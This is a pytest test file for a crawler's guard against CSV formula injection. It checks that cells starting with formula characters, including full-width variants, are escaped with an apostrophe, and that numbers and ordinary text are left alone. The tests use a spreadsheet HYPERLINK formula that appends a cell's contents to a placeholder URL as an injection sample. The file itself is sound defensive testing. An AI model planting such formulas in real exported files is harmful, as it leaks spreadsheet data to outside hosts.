"""No spreadsheet takes a stranger's text for a formula, whichever CSV it is in."""

from __future__ import annotations

import csv
import io

import pytest

from crawler.formulas import guarded, guarded_csv


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_formulas_are_guarded(start: str) -> None:
    text = f'{start}HYPERLINK("http://x/"&A1)'
    assert guarded(text) == f"'{text}"
    assert guarded(f"'{text}") == f"'{text}"


@pytest.mark.parametrize(
    "text", ["-5", "+5", "-1,234.50", "－5", "-0.5%", "-", "--", "－", "", "年报", "0=1", "5", "\\N"]
)
def test_numbers_dashes_and_words_are_not(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize("text", ["-5+A1", "=1", "-A1", "+1=1", "-5 x", "=-5"])
def test_what_only_begins_like_a_number_is(text: str) -> None:
    assert guarded(text) == f"'{text}"


def test_lines_of_csv() -> None:
    rows = [["=1", "a", "-5", ""], ['=a"b",c', "\t=1", "x\n=1", "@x"], ["", "+", '"=1"', "－SUM(1)"]]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    read = list(csv.reader(io.StringIO(guarded_csv(out.getvalue()), newline="")))
    assert read == [[guarded(cell) for cell in row] for row in rows]
